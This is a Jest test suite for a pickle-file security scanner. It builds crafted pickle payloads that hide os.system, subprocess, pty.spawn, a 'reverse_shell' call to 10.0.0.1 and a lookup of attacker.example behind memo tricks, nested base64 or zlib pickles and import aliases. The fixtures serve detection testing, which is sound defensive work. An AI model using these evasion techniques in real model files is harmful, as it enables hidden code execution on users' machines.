// Evasions of naive pickle scanners (format-rules §2.8 E1–E18, peers §5.2 O1–O10): each must be resolved to the
// import the real unpickler performs, with exact rule ids, severities and inventory.
import { describe, expect, test } from '@jest/globals'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { FIXTURES } from './helpers/cli.js'
import { PB, find, rules, runPickle, scanBytes } from './helpers/pickle.js'

describe('memo and stack tricks', () => {
  test('E1: DUP + BINPUT memo confusion resolves os.system', async () => {
    const p = new PB()
      .proto(4)
      .sbu('os')
      .op('DUP')
      .binput(1)
      .op('POP')
      .sbu('decoy')
      .op('POP')
      .binget(1)
      .sbu('system')
      .op('STACK_GLOBAL')
      .sbu('echo modelgate-marker')
      .op('TUPLE1', 'REDUCE', 'STOP')
    const o = await scanBytes(p.bytes())
    expect(o.imports).toEqual(['os.system'])
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical', 'PKL-051:low'])
    expect(find(o.findings, 'PKL-010')[0]!.evidence).toBe("os.system('echo modelgate-marker')")
  })

  test('O1: operands fetched with BINGET/LONG_BINGET after decoy strings', async () => {
    const p = new PB()
      .proto(4)
      .sbu('subprocess')
      .longBinput(70000)
      .op('POP')
      .sbu('torch')
      .sbu('LongStorage')
      .op('POP', 'POP')
      .longBinget(70000)
      .sbu('check_output')
      .op('STACK_GLOBAL')
      .op('STOP')
    const o = await scanBytes(p.bytes())
    expect(o.imports).toEqual(['subprocess.check_output'])
    expect(rules(o.findings)).toEqual(['PKL-001:critical'])
  })

  test('MEMOIZE stores at len(memo) and overwrites a sparse key; PUT overwrites', async () => {
    // BINPUT 1 'os'; MEMOIZE then stores 'sys' at key 1 (memo size is 1), replacing 'os'.
    const p = new PB()
      .proto(4)
      .sbu('os')
      .binput(1)
      .op('POP')
      .sbu('sys')
      .op('MEMOIZE', 'POP')
      .binget(1)
      .sbu('exit')
      .op('STACK_GLOBAL')
      .sbu('builtins')
      .binput(0)
      .op('POP')
      .sbu('pty')
      .binput(0)
      .op('POP')
      .binget(0)
      .sbu('spawn')
      .op('STACK_GLOBAL', 'TUPLE2', 'STOP')
    const o = await scanBytes(p.bytes())
    expect(o.imports).toEqual(['sys.exit', 'pty.spawn'])
    expect(rules(o.findings)).toEqual(['PKL-001:critical'])
  })

  test('E12/O2: GET of an undefined key is a finding and analysis goes on', async () => {
    const p = new PB().proto(2).binget(7).op('POP').callGlobal('os', 'system', 'id').stop()
    const o = await scanBytes(p.bytes())
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical', 'PKL-053:medium'])
    expect(find(o.findings, 'PKL-053')[0]!.offset).toBe(2)
  })

  test('stack underflow is reported and analysis continues', async () => {
    const p = new PB().proto(2).op('REDUCE').callGlobal('posix', 'system', 'id').op('TUPLE2', 'STOP')
    const o = await scanBytes(p.bytes())
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical', 'PKL-052:medium'])
    expect(find(o.findings, 'PKL-052')).toHaveLength(1)
  })
})

describe('import resolution', () => {
  test('E2/P9: dotted attribute paths are walked (torch + serialization.os.system, pathlib + os.system)', async () => {
    const p = new PB()
      .proto(4)
      .stackGlobal('torch', 'serialization.os.system')
      .op('POP')
      .stackGlobal('pathlib', 'os.system')
      .stop()
    const o = await scanBytes(p.bytes())
    expect(o.imports).toEqual(['torch.serialization.os.system', 'pathlib.os.system'])
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-005:critical'])
    expect(find(o.findings, 'PKL-005')).toHaveLength(2)
  })

  test('a dotted path through harmless attributes is still PKL-005 high', async () => {
    const p = new PB().proto(4).stackGlobal('collections', 'OrderedDict.fromkeys').stop()
    const o = await scanBytes(p.bytes())
    expect(rules(o.findings)).toEqual(['PKL-002:high', 'PKL-005:high'])
  })

  test('E3/O4: EXT1 imports through the copyreg registry (unresolvable)', async () => {
    const p = new PB().proto(2).ext1(0xfe).bu('id').op('TUPLE1', 'REDUCE', 'STOP')
    const o = await scanBytes(p.bytes())
    expect(o.imports).toEqual([])
    expect(rules(o.findings)).toEqual(['PKL-004:high'])
    expect(find(o.findings, 'PKL-004')[0]!.evidence).toBe('EXT1 254')
  })

  test('EXT codes registered in the same pickle with copyreg.add_extension resolve', async () => {
    const p = new PB()
      .proto(2)
      .global('copyreg', 'add_extension')
      .bu('os')
      .bu('system')
      .int1(200)
      .op('TUPLE3', 'REDUCE', 'POP')
      .ext1(200)
      .bu('id')
      .op('TUPLE1', 'REDUCE', 'STOP')
    const o = await scanBytes(p.bytes())
    expect(o.imports).toEqual(['copyreg.add_extension', 'os.system'])
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-004:high', 'PKL-010:critical', 'PKL-014:medium'])
  })

  test('E11/O3: STACK_GLOBAL operands from STRING, BINSTRING and SHORT_BINSTRING', async () => {
    const p = new PB()
      .proto(4)
      .bs('os')
      .ss('system')
      .op('STACK_GLOBAL', 'POP')
      .string("'nt'")
      .string('"popen"')
      .op('STACK_GLOBAL', 'STOP')
    const o = await scanBytes(p.bytes())
    expect(o.imports).toEqual(['os.system', 'nt.popen'])
    expect(rules(o.findings)).toEqual(['PKL-001:critical'])
  })

  test('E18: STACK_GLOBAL operands computed by str calls are PKL-003, and evaluated where pure', async () => {
    const joined = new PB()
      .proto(4)
      .stackGlobal('builtins', 'str.join')
      .sbu('')
      .op('EMPTY_LIST', 'MARK')
      .sbu('o')
      .sbu('s')
      .op('APPENDS', 'TUPLE2', 'REDUCE')
      .stackGlobal('builtins', 'str')
      .sbu('system')
      .op('TUPLE1', 'REDUCE', 'STACK_GLOBAL', 'STOP')
    const o = await scanBytes(joined.bytes())
    expect(o.imports).toEqual(['builtins.str.join', 'builtins.str', 'os.system'])
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-002:high', 'PKL-003:critical', 'PKL-005:high'])
    expect(find(o.findings, 'PKL-003')[0]!.message).toMatch(/evaluates to os\.system/)
  })

  test('O2: STACK_GLOBAL operands of the wrong type, or computed by opaque calls, are unresolvable', async () => {
    const opaque = new PB().proto(4).stackGlobal('codecs', 'decode').sbu('bf').sbu('rot13').op('TUPLE2', 'REDUCE')
    const o = await scanBytes(opaque.sbu('system').op('STACK_GLOBAL', 'STOP').bytes())
    expect(o.imports).toEqual(['codecs.decode'])
    expect(rules(o.findings)).toEqual(['PKL-002:high', 'PKL-003:critical'])
    const typed = new PB().proto(4).int1(1).sbb('system').op('STACK_GLOBAL', 'STOP')
    const t = await scanBytes(typed.bytes())
    expect(rules(t.findings)).toEqual(['PKL-003:critical'])
  })

  test('E14: Python 2 aliases resolve through the compat maps below protocol 3', async () => {
    const p = new PB()
      .proto(2)
      .global('__builtin__', 'set')
      .op('POP')
      .global('commands', 'getoutput')
      .op('POP')
      .global('__builtin__', 'eval')
      .op('POP')
      .global('copy_reg', '_reconstructor')
      .stop()
    const o = await scanBytes(p.bytes())
    expect(o.imports).toEqual(['builtins.set', 'subprocess.getoutput', 'builtins.eval', 'copyreg._reconstructor'])
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-006:critical'])
    expect(find(o.findings, 'PKL-006').map((f) => f.evidence)).toEqual([
      'commands.getoutput -> subprocess.getoutput',
      '__builtin__.eval -> builtins.eval'
    ])
  })

  test('compat maps do not apply from protocol 3 on', async () => {
    const o = await scanBytes(new PB().proto(3).global('__builtin__', 'set').stop().bytes())
    expect(o.imports).toEqual(['__builtin__.set'])
    expect(rules(o.findings)).toEqual(['PKL-002:high'])
  })

  test('E16: __main__ imports (medium; high when called with text)', async () => {
    const p = new PB()
      .proto(2)
      .global('__main__', 'Net')
      .op('EMPTY_TUPLE', 'NEWOBJ')
      .callGlobal('__main__', 'reverse_shell', '10.0.0.1')
      .op('TUPLE2', 'STOP')
    const o = await scanBytes(p.bytes())
    expect(o.imports).toEqual(['__main__.Net', '__main__.reverse_shell'])
    expect(rules(o.findings)).toEqual(['PKL-020:high', 'PKL-020:medium', 'PKL-060:low'])
  })

  test('P11: scanner modules are PKL-021', async () => {
    const o = await scanBytes(new PB().proto(4).stackGlobal('fickling', 'hook.remove_hook').stop().bytes())
    expect(rules(o.findings)).toEqual(['PKL-005:critical', 'PKL-021:critical'])
  })

  test('P10: reaching interpreter internals through a dunder of an allowed module', async () => {
    const o = await scanBytes(new PB().proto(4).stackGlobal('numpy', '__builtins__').stop().bytes())
    expect(o.imports).toEqual(['numpy.__builtins__'])
    expect(rules(o.findings)).toEqual(['PKL-001:critical'])
  })
})

describe('calls', () => {
  test('E15: a call whose result is POPped is still a finding (PKL-014)', async () => {
    const p = new PB().proto(2).callGlobal('socket', 'gethostbyname', 'attacker.example').op('POP', 'NONE', 'STOP')
    const o = await scanBytes(p.bytes())
    expect(rules(o.findings)).toEqual(['PKL-001:high', 'PKL-010:high', 'PKL-014:medium'])
    expect(find(o.findings, 'PKL-014')[0]!.evidence).toBe('socket.gethostbyname')
  })

  test('O4: INST, OBJ, NEWOBJ and NEWOBJ_EX are call paths', async () => {
    const p = new PB()
      .proto(4)
      .op('MARK')
      .bu('id')
      .inst('os', 'system')
      .op('POP', 'MARK')
      .global('subprocess', 'Popen')
      .bu('ls')
      .op('OBJ', 'POP')
      .stackGlobal('smtplib', 'SMTP')
      .op('EMPTY_TUPLE', 'NEWOBJ', 'POP')
      .stackGlobal('ftplib', 'FTP')
      .op('EMPTY_TUPLE', 'EMPTY_DICT', 'NEWOBJ_EX')
      .stop()
    const o = await scanBytes(p.bytes())
    expect(o.imports).toEqual(['os.system', 'subprocess.Popen', 'smtplib.SMTP', 'ftplib.FTP'])
    expect(find(o.findings, 'PKL-010').map((f) => `${f.evidence}:${f.severity}`)).toEqual([
      "os.system('id'):critical",
      "subprocess.Popen('ls'):critical",
      'smtplib.SMTP():high',
      'ftplib.FTP():high'
    ])
    expect(find(o.findings, 'PKL-014')).toHaveLength(3)
  })

  test('BUILD on an imported module monkey-patches it (PKL-012)', async () => {
    const p = new PB()
      .proto(2)
      .global('json', 'decoder')
      .op('EMPTY_DICT')
      .bu('scanstring')
      .global('builtins', 'eval')
      .op('SETITEM', 'BUILD', 'STOP')
    const o = await scanBytes(p.bytes())
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-002:high', 'PKL-012:high'])
  })

  test('getattr with literal arguments resolves the attribute it fetches', async () => {
    const p = new PB()
      .proto(2)
      .global('builtins', 'getattr')
      .global('os', 'path')
      .bu('system')
      .op('TUPLE2', 'REDUCE')
      .bu('id')
      .op('TUPLE1', 'REDUCE', 'STOP')
    const o = await scanBytes(p.bytes())
    expect(o.imports).toEqual(['builtins.getattr', 'os.path', 'os.path.system'])
    expect(find(o.findings, 'PKL-010').map((f) => f.evidence)).toEqual([
      "builtins.getattr(os.path, 'system')",
      "os.path.system('id')"
    ])
  })

  test('import trampolines with literal names resolve what they return', async () => {
    const p = new PB()
      .proto(2)
      .global('numpy.core', '_ufunc_reconstruct')
      .bu('posix')
      .bu('system')
      .op('TUPLE2', 'REDUCE')
      .bu('id')
      .op('TUPLE1', 'REDUCE')
      .global('pydoc', 'locate')
      .bu('subprocess.getoutput')
      .op('TUPLE1', 'REDUCE', 'TUPLE2', 'STOP')
    const o = await scanBytes(p.bytes())
    expect(o.imports).toEqual(['numpy.core._ufunc_reconstruct', 'posix.system', 'pydoc.locate', 'subprocess.getoutput'])
    expect(find(o.findings, 'PKL-010').map((f) => f.evidence)).toEqual([
      "numpy.core._ufunc_reconstruct('posix', 'system')",
      "posix.system('id')",
      "pydoc.locate('subprocess.getoutput')"
    ])
  })

  test('APPEND/SETITEM on something that is not a container (PKL-013)', async () => {
    const p = new PB().proto(2).int1(1).int1(2).op('APPEND').bu('k').op('MARK').int1(1).int1(2).op('SETITEMS', 'STOP')
    const o = await runPickle(p.bytes())
    expect(rules(o.findings)).toEqual(['PKL-013:medium', 'PKL-051:low'])
    expect(find(o.findings, 'PKL-013').map((f) => f.message)).toEqual([
      'APPEND on an int, not a list',
      'SETITEMS on a str, not a dict'
    ])
  })
})

describe('nested payloads', () => {
  const inner = new PB().proto(2).callGlobal('os', 'system', 'echo modelgate-marker').stop().bytes()

  test('E17: bytes handed to pickle.loads are analysed as a member (PKL-011 critical)', async () => {
    const p = new PB().proto(3).global('pickle', 'loads').bb(inner).op('TUPLE1', 'REDUCE', 'STOP')
    const o = await scanBytes(p.bytes())
    const at = 2 + 'cpickle\nloads\n'.length + 5
    expect(o.imports).toEqual(['pickle.loads', 'os.system'])
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical', 'PKL-011:critical'])
    expect(find(o.findings, 'PKL-001').map((f) => f.member ?? '')).toEqual(['', `bytes@${at}`])
    expect(find(o.findings, 'PKL-011')[0]!.evidence).toBe(`pickle.loads(bytes@${at})`)
  })

  test('O10: base64 text decoded before torch.storage._load_from_bytes is followed', async () => {
    const p = new PB()
      .proto(2)
      .global('torch.storage', '_load_from_bytes')
      .global('base64', 'b64decode')
      .bu(inner.toString('base64'))
      .op('TUPLE1', 'REDUCE', 'TUPLE1', 'REDUCE', 'STOP')
    const o = await scanBytes(p.bytes())
    expect(o.imports).toEqual(['torch.storage._load_from_bytes', 'base64.b64decode', 'os.system'])
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-002:high', 'PKL-010:critical', 'PKL-011:critical'])
    expect(find(o.findings, 'PKL-010').map((f) => f.member)).toEqual([undefined, expect.stringMatching(/^base64@\d+$/)])
  })

  test('a benign nested pickle still makes the call high, not critical', async () => {
    const benign = new PB().proto(2).int1(1).stop().bytes()
    const p = new PB().proto(3).global('dill', 'loads').bb(benign).op('TUPLE1', 'REDUCE', 'STOP')
    const o = await scanBytes(p.bytes())
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical', 'PKL-011:high'])
  })

  test('a bytes value that is a pickle is analysed even without a loader call (PKL-070)', async () => {
    const p = new PB().proto(3).op('EMPTY_DICT').bu('blob').bb(inner).op('SETITEM', 'STOP')
    const o = await scanBytes(p.bytes())
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical', 'PKL-070:low'])
    expect(find(o.findings, 'PKL-001')[0]!.member).toMatch(/^bytes@\d+$/)
  })
})

describe('stream structure', () => {
  test('O5: several pickles in one file are all analysed (PKL-030)', async () => {
    const first = new PB().proto(2).op('EMPTY_DICT', 'STOP').bytes()
    const second = new PB().proto(2).callGlobal('os', 'system', 'id').stop().bytes()
    const o = await scanBytes(Buffer.concat([first, second]))
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical', 'PKL-030:medium'])
    expect(find(o.findings, 'PKL-001')[0]!.offset).toBe(first.length + 2)
  })

  test('bytes after STOP are reported and sniffed', async () => {
    const o = await scanBytes(
      Buffer.concat([new PB().proto(2).op('NONE', 'STOP').bytes(), Buffer.from('trailing text')])
    )
    expect(rules(o.findings)).toEqual(['PKL-030:medium'])
    expect(find(o.findings, 'PKL-030')[0]!.evidence).toBe('13 bytes')
  })

  test('E6/O6: a broken pickle keeps the findings made before the break', async () => {
    const p = new PB().proto(2).callGlobal('os', 'system', 'id').raw(0xff, 0x00, 0x01).stop()
    const o = await scanBytes(p.bytes())
    expect(rules(o.findings)).toEqual(['GEN-003:high', 'PKL-001:critical', 'PKL-010:critical', 'PKL-050:medium'])
    expect(find(o.findings, 'PKL-050')[0]).toMatchObject({ offset: 22, evidence: '0xff' })
  })

  test('a truncated pickle is malformed but nothing is left unread', async () => {
    const whole = new PB().proto(2).callGlobal('os', 'system', 'id').stop().bytes()
    const o = await scanBytes(whole.subarray(0, 20))
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-050:medium'])
  })

  test('PROTO anomalies (PKL-031) and opcodes newer than the protocol (PKL-032)', async () => {
    const p = new PB().proto(2).proto(4).op('EMPTY_SET').proto(9).op('STOP')
    const o = await scanBytes(p.bytes())
    expect(rules(o.findings)).toEqual(['PKL-031:medium'])
    expect(find(o.findings, 'PKL-031')).toHaveLength(2)
    const q = await scanBytes(new PB().proto(2).op('EMPTY_SET', 'STOP').bytes())
    expect(rules(q.findings)).toEqual(['PKL-032:medium'])
  })

  test('huge declared lengths cost nothing and are malformed', async () => {
    const p = new PB()
      .proto(4)
      .raw(0x8e)
      .raw(...Buffer.from([0, 0, 0, 0, 0, 0, 0, 0x10]))
      .raw('xx')
    const o = await runPickle(p.bytes())
    expect(rules(o.findings)).toEqual(['PKL-050:medium'])
    expect(find(o.findings, 'PKL-050')[0]!.evidence).toBe(String(2n ** 60n))
    const f = await runPickle(
      new PB()
        .proto(4)
        .frame(2n ** 60n)
        .stop()
        .bytes()
    )
    expect(rules(f.findings)).toEqual(['PKL-050:medium'])
  })

  test('E4/C5: a pickle with a zip appended is seen as both (the pickle view is analysed)', async () => {
    const o = await scanBytes(readFileSync(join(FIXTURES, 'evasions', 'polyglot_pickle_zip.pkl')), 'model.pkl')
    expect(o.formats).toEqual(expect.arrayContaining(['zip', 'pickle']))
    expect(rules(o.findings)).toEqual(expect.arrayContaining(['CTR-001:high', 'PKL-001:critical', 'PKL-030:medium']))
    expect(o.imports).toContain('posix.system')
  })

  test('O6: invalid UTF-8 in a GLOBAL line does not stop the analysis', async () => {
    const p = new PB().proto(2).raw('c\xff\xfe\nsystem\n').op('POP').callGlobal('os', 'system', 'id').stop()
    const o = await scanBytes(p.bytes())
    expect(o.imports).toEqual(['\ufffd\ufffd.system', 'os.system'])
    // `system` under any module is a bare dangerous name
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical'])
    expect(find(o.findings, 'PKL-001').map((f) => f.evidence)).toEqual(['\ufffd\ufffd.system', 'os.system'])
  })

  test('a repeated finding is reported a bounded number of times', async () => {
    const p = new PB().proto(2)
    for (let i = 0; i < 500; i++) p.global('os', 'system').op('POP')
    const o = await runPickle(p.stop().bytes())
    expect(find(o.findings, 'PKL-001')).toHaveLength(8)
    expect(o.result.imports).toHaveLength(8)
  })
})

describe('nested payload decoding', () => {
  test('zlib.decompress of literal bytes handed to marshal/pickle is followed', async () => {
    const inner = new PB().proto(2).callGlobal('os', 'system', 'id').stop().bytes()
    const p = new PB()
      .proto(3)
      .global('_pickle', 'loads')
      .global('zlib', 'decompress')
      .bb(deflateSync(inner))
      .op('TUPLE1', 'REDUCE', 'TUPLE1', 'REDUCE', 'STOP')
    const o = await scanBytes(p.bytes())
    expect(o.imports).toEqual(['_pickle.loads', 'zlib.decompress', 'os.system'])
    expect(find(o.findings, 'PKL-011')).toEqual([expect.objectContaining({ severity: 'critical' })])
    expect(find(o.findings, 'PKL-010').map((f) => f.member)).toEqual([undefined, expect.stringMatching(/^zlib@\d+$/)])
  })

  test('a loader given a file name loads that file (PKL-011 high)', async () => {
    const o = await scanBytes(new PB().proto(2).callGlobal('torch', 'load', '/tmp/x.pt').stop().bytes())
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical', 'PKL-011:high'])
    expect(find(o.findings, 'PKL-011')[0]!.evidence).toBe('/tmp/x.pt')
  })
})
